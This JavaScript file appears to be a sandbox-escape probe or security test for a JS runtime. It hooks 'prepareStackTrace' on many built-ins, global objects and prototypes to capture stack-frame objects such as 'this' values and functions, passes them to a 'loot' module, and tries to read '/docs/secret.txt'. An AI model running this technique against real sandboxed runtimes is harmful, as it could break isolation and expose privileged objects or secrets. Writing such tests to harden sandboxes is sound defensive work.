import fs from 'runtime:fs';
import { change, take } from './loot.mjs';
const prepare = (error, sites) => {
  take(error, sites, ...sites.flatMap((site) => [site.getThis(), site.getFunction(), site.getEvalOrigin()]));
  return 'prepared';
};
class Own extends Error {}
for (const [label, owner] of [
  ['Error', Error], ['its constructor', Error.prototype.constructor], ['TypeError', TypeError], ['parent of TypeError', Object.getPrototypeOf(TypeError)],
  ['a refusal', (() => { try { fs.readFileSync('/docs/secret.txt'); } catch (error) { return error.constructor; } })()],
  ['parent of DOMException', Object.getPrototypeOf(DOMException)], ['Error.prototype', Error.prototype], ['Function.prototype', Function.prototype],
  ['Object.prototype', Object.prototype], ['global object', globalThis], ['own class', Own], ['CompileError', WebAssembly.CompileError],
]) {
  change(label, () => { owner.prepareStackTrace = prepare; });
  change(`${label} defined`, () => { Object.defineProperty(owner, 'prepareStackTrace', { value: prepare }); });
}
const own = {};
Error.captureStackTrace(own);
console.log(typeof own.stack, typeof new Own().stack, new Own('x').stack.startsWith('Error: x\n    at file:///attacker.mjs'));
